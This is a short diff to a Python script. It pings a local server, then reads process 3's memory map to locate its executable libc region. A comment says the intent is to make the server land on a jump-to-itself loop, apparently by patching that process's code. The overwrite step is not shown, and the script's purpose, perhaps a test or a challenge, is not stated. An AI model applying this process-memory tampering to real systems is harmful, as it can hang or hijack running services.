@@ -10,6 +10,12 @@ import re
 import socket
 import time
 
+# Once it has answered and rests again.
+with socket.create_connection(("127.0.0.11", 80)) as one:
+    one.sendall(b"GET / HTTP/1.0\r\n\r\n")
+    while one.recv(65536):
+        pass
+time.sleep(0.5)
 # Over all code of the C library: wherever the server is next, it slides to a jump to itself.
 with open("/proc/3/maps") as maps:
     start, end = re.search(r"^(\w+)-(\w+) r-xp .*/libc[.-]", maps.read(), re.M).groups()
